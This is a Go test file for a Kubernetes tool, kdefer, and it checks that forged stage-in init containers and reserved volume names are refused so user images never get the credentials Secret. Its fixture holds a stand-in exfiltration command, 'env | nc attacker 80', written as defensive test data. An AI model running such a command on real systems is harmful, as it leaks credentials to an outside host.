package render_test

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	v1 "github.com/kdefer/kdefer/api/v1alpha1"
	"github.com/kdefer/kdefer/render"
	rt "github.com/kdefer/kdefer/render/testing"
)

// A user's init container named like kdefer's stage-in ("kdefer-stage-in",
// or with its "-N" suffix) is never taken for kdefer's: in a template that
// render has not marked rendered it is refused, naming the field and the
// fix; in one that says it is rendered (as anyone may write) it is rebuilt
// from the policy or dropped. Either way the user's image never runs with
// the credentials Secret.
func TestRenderUserStageInGetsNoCredentials(t *testing.T) {
	const secret = "minio"
	creds := []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: secret}}}}
	forged := func(name string) corev1.Container {
		return corev1.Container{Name: name, Image: "evil:1", Command: []string{"sh", "-c", "env | nc attacker 80"}, EnvFrom: creds}
	}
	policy := func(stageIn bool) *v1.DeferPolicySpec {
		p := rt.MakePolicy("p", ns, "s3://b/{pod}/").Credentials(secret)
		if stageIn {
			p.StageIn("s3://in/", "")
		}
		return &p.Obj().Spec
	}
	// noUserCredentials fails if a container that is not render's own
	// stage-in container receives the Secret.
	noUserCredentials := func(t *testing.T, spec *corev1.PodSpec) {
		t.Helper()
		for _, c := range append(append([]corev1.Container{}, spec.InitContainers...), spec.Containers...) {
			for _, e := range c.EnvFrom {
				if e.SecretRef != nil && e.SecretRef.Name == secret && (c.Image != opts.StageImage || len(c.Command) > 0 || len(c.Args) == 0 || c.Args[0] != "in") {
					t.Errorf("container %s (image %s, command %q) receives the credentials Secret", c.Name, c.Image, c.Command)
				}
			}
		}
	}

	for _, stageIn := range []bool{false, true} {
		for _, name := range []string{"kdefer-stage-in", "kdefer-stage-in-0"} {
			t.Run(name+map[bool]string{false: ", policy without stage-in", true: ", policy with stage-in"}[stageIn], func(t *testing.T) {
				job := rt.MakeJob("j", ns).Annotation(v1.AnnotationPolicy, "p").InitContainer(forged(name)).Obj()
				_, err := render.Job(job, policy(stageIn), opts)
				msg := strings.Join(render.Problems(err), "\n")
				want := `spec.template.spec.initContainers[0].name: "` + name + `" is reserved for kdefer`
				if !strings.Contains(msg, want) || !strings.Contains(msg, "fix: rename the container") {
					t.Errorf("render.Job: %v, want a refusal containing %q and the fix", msg, want)
				}

				// Marked rendered by its author: rebuilt or dropped, never kept.
				job.Spec.Template.Annotations = map[string]string{v1.AnnotationRendered: "v0.0.0"}
				got, err := render.Job(job, policy(stageIn), opts)
				if err != nil {
					t.Fatalf("render.Job of a template marked rendered: %v", err)
				}
				noUserCredentials(t, &got.Spec.Template.Spec)
				for _, c := range got.Spec.Template.Spec.InitContainers {
					if c.Image == "evil:1" {
						t.Errorf("the user's init container %s is kept", c.Name)
					}
				}
			})
		}
	}

	// A pod no Job made: the same rule, under the pod's own spec path.
	pod := ciPod(map[string]string{v1.AnnotationStageOut: "s3://b/{pod}/", v1.AnnotationCredentials: secret})
	pod.Spec.InitContainers = append(pod.Spec.InitContainers, forged("kdefer-stage-in"))
	_, err := render.Pod(pod, nil, opts)
	if msg := strings.Join(render.Problems(err), "\n"); !strings.Contains(msg, `spec.initContainers[0].name: "kdefer-stage-in" is reserved for kdefer`) {
		t.Errorf("render.Pod: %v, want the init container refused", msg)
	}
}

// Volumes kdefer adds to pods it renders or builds are kdefer's: a
// template may neither declare one of those names nor mount one, in any of
// its containers, and neither may a policy name its work volume so.
func TestRenderReservedVolumes(t *testing.T) {
	for _, name := range []string{"kdefer-s3-ca", "kdefer-logs-token", "kdefer-tmp"} {
		t.Run(name, func(t *testing.T) {
			job := rt.MakeJob("j", ns).StageOut("s3://b/{pod}/").
				Volume(corev1.Volume{Name: name, VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}}).
				Mount(0, name, "/x").
				InitContainer(corev1.Container{Name: "setup", Image: "x", VolumeMounts: []corev1.VolumeMount{{Name: name, MountPath: "/x"}}}).Obj()
			_, err := render.Job(job, nil, opts)
			msg := strings.Join(render.Problems(err), "\n")
			for _, want := range []string{
				`spec.template.spec.volumes[0].name: "` + name + `" is reserved for kdefer`,
				`spec.template.spec.containers[0].volumeMounts[0].name: "` + name + `" is reserved for kdefer`,
				`spec.template.spec.initContainers[0].volumeMounts[0].name: "` + name + `" is reserved for kdefer`,
			} {
				if !strings.Contains(msg, want) {
					t.Errorf("render.Job: want %q in:\n%s", want, msg)
				}
			}
			job = rt.MakeJob("j", ns).StageOut("s3://b/{pod}/").Annotation(v1.AnnotationWorkVolume, name).Annotation(v1.AnnotationWorkMountPath, "/w").Obj()
			_, err = render.Job(job, nil, opts)
			if msg := strings.Join(render.Problems(err), "\n"); !strings.Contains(msg, "policy.workVolume.name: Forbidden") {
				t.Errorf("work volume named %s: want it refused, got:\n%s", name, msg)
			}
		})
	}
}
